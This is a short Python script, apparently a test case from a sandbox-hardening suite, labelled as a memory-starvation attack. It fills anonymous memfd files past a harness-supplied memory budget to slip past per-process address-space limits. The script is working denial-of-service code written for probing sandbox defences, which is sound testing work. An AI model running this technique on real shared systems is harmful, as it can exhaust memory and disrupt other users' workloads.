# /// attack
# catalogue = "starving: memory (also memfd and shared maps)"
# layers = ["memory", "seccomp"]
# aim = "memory"
# stock = "nothing there would stop it"
# ///
# Fills memory files, which no limit on one process's address space counts.

# %%
import os
import time

piece, files = b"x" * (1 << 24), []
for _ in range(int(2.5 * TARGET["memory"]) >> 25):
    try:
        files.append(os.memfd_create("full"))
        os.write(files[-1], piece)
        os.write(files[-1], piece)
    except OSError:
        break
time.sleep(0.7)
